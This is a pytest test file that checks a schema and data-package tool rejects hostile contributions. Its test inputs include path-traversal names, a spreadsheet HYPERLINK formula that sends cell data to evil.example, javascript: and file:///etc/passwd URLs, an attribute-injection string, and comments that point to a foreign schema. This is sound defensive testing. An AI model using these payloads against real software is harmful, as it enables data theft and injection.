"""What a branch from a stranger may bring in schemas and texts: no file outside, no late refusal, no odd address."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from command_line import Run
from factpack.check.record import check_record
from factpack.disk.project import Project
from factpack.run.workspace import open_workspace
from festivals import FESTIVAL
from projects import replace, tree

NAME = '"$ref": "defs.schema.json#/$defs/slug"'
OPEN = '"type": "string", "pattern": "^[a-z0-9./-]*$", "x-written": {"zh": "名称", "en": "a name"}'
URL = '"pattern": "^https?://[A-Za-z0-9](([.]|--?)?[A-Za-z0-9])*[.][A-Za-z]{2,}(:[1-9][0-9]{1,4})?(/[A-Za-z0-9._~:/?#@!$&\'*+(),;=%-]*)?$",\n'
THERE = ("../../../../evil", "/evil", "..", "a/b", "con")
pytestmark = pytest.mark.timeout(120)


def told(root: Path, run: Run) -> str:
    """Return what a check says, which must end with problems and make nothing."""
    around = {path: path.read_bytes() for path in root.parent.rglob("*") if path.is_file() and root not in path.parents}
    for command in ("check", "build", "release"):
        before = tree(root)
        code, out, err = run(root, command)
        assert code in (1, 2), (command, out)
        assert "Traceback" not in err
        assert tree(root) == before, command
        if command == "check":
            said = out
    now = {path: path.read_bytes() for path in root.parent.rglob("*") if path.is_file() and root not in path.parents}
    assert now == around
    return said


@pytest.mark.parametrize("name", THERE)
def test_a_package_is_not_named_after_another_folder(minimal: Path, run: Run, name: str) -> None:
    replace(minimal / "schemas" / "package.schema.json", NAME, OPEN)
    replace(minimal / "sources" / "package.yaml", "name: linxi-work-report", f"name: {name}")
    assert "sources/package.yaml:1:7: error[unfit-name]" in told(minimal, run)


@pytest.mark.parametrize("keyword", ["x-table", "x-folder"])
def test_no_table_leads_elsewhere_even_if_the_rules_are_opened(minimal: Path, run: Run, keyword: str) -> None:
    path = minimal / "schemas" / "dialect.schema.json"
    rules = json.loads(path.read_text("utf-8"))
    rules["$defs"] |= {"kind": {}, "definitions": {}, "metadata": {}}
    path.write_text(json.dumps(rules), "utf-8")
    schema = {**FESTIVAL, keyword: "../../../../../pwned"}
    (minimal / "schemas" / "festival.schema.json").write_text(json.dumps(schema), "utf-8")
    (minimal.parent / "pwned.csv").write_text("precious", "utf-8")
    assert "schemas/dialect.schema.json:1:1: error[dialect-differs]" in told(minimal, run)


@pytest.mark.parametrize("table", ["sqlite_master", "units_en", "x" * 40, "x" * 300])
def test_a_table_that_a_form_cannot_have_is_a_problem_of_the_check(minimal: Path, run: Run, table: str) -> None:
    replace(minimal / "schemas" / "place.schema.json", '"x-table": "places"', f'"x-table": "{table}"')
    assert "schemas/place.schema.json:16:14: error[unfit-name]" in told(minimal, run)


@pytest.mark.parametrize(
    "new",
    ["""en: '=HYPERLINK("http://evil.example/?"&A1,"x")'""", "en: <r>Linxi</r>", 'en: "a\\r\\nb"'],
)
def test_a_text_that_a_form_cannot_hold_is_a_problem_of_the_check(minimal: Path, run: Run, new: str) -> None:
    replace(minimal / "sources" / "places" / "plc-linxi-lake-park.yaml", "en: Linxi Lake Park", new)
    assert "sources/places/plc-linxi-lake-park.yaml:4:7: error[" in told(minimal, run)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "//evil.example/",
        "https://user@evil.example/",
        'https://evil.example/"onmouseover="x',
        "https://evil.example/ x",
        "https://",
    ],
)
def test_an_address_leads_to_the_web_whatever_the_schema_says(minimal: Path, address: str) -> None:
    replace(minimal / "schemas" / "defs.schema.json", URL, "")
    replace(minimal / "sources" / "package.yaml", "https://creativecommons.org/licenses/by/4.0/", json.dumps(address))
    package = minimal / "sources" / "package.yaml"
    more = "".join(f"{field}: {json.dumps(address)}\n" for field in ("homepage", "base_url", "repository"))
    package.write_text(package.read_text("utf-8") + more, "utf-8")
    report = minimal / "sources" / "documents" / "doc-report.yaml"
    replace(report, "https://linxi.example.org/report.html", json.dumps(address))
    space = open_workspace(Project(minimal))
    assert [each.code for each in space.problems] == ["wrong-form"] * 4
    kind: Any = space.schemas.kinds["document"]
    document, problems = space.load(kind, "doc-report")
    assert problems == []
    assert [each.code for each in check_record(kind, document, [], space.library).problems] == ["wrong-form"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("version: 0.1.0", "version: ../../x"),
        ("version: 0.1.0", "version: 1.0.0-beta"),
        ("'2026-01-01T00:00:00Z'", "'2026-13-45T00:00:00Z'"),
        ("'2026-01-01T00:00:00Z'", "'1979-12-31T00:00:00Z'"),
        ("'2026-01-01T00:00:00Z'", "'2108-01-01T00:00:00Z'"),
    ],
)
def test_version_and_date_of_the_package_are_such(minimal: Path, run: Run, old: str, new: str) -> None:
    defs = minimal / "schemas" / "defs.schema.json"
    version = '"pattern": "^(0|[1-9][0-9]*)[.](0|[1-9][0-9]*)[.](0|[1-9][0-9]*)$",\n'
    replace(defs, version, "")
    replace(minimal / "sources" / "package.yaml", old, new)
    assert "error[wrong-form]" in told(minimal, run)


@pytest.mark.parametrize(
    "line",
    [
        "# yaml-language-server: $schema=https://evil.example/x.json",
        "#  yaml-language-server : $schema=https://evil.example/x.json",
        "# yaml-language-server: $schema=../../schemas/unit.schema.json",
        "# yaml-language-server: $schema=../../schemas/place.schema.json $schema=https://evil.example/x.json",
        "# $schema: https://evil.example/x.json",
        "#$schema=https://evil.example/x.json",
    ],
)
@pytest.mark.parametrize("first", [True, False])
def test_no_comment_gives_an_editor_another_schema(minimal: Path, run: Run, line: str, first: bool) -> None:
    path = minimal / "sources" / "places" / "plc-linxi-lake.yaml"
    text = path.read_text("utf-8")
    path.write_text(f"{line}\n{text}" if first else f"{text}{line}\n", "utf-8")
    number = 1 if first else text.count("\n") + 1
    assert f"plc-linxi-lake.yaml:{number}:" in (said := run(minimal, "check")[1])
    assert said.count("error[foreign-schema]") == 1


def test_the_comment_of_its_own_type_is_fine(minimal: Path, run: Run) -> None:
    for path in ("sources/places/plc-linxi-lake.yaml", "sources/package.yaml"):
        name = "package" if "package" in path else "place"
        own = f"# yaml-language-server: $schema={'../' * path.count('/')}schemas/{name}.schema.json\n"
        (minimal / path).write_text(own + (minimal / path).read_text("utf-8"), "utf-8")
    assert run(minimal, "check")[0] == 0
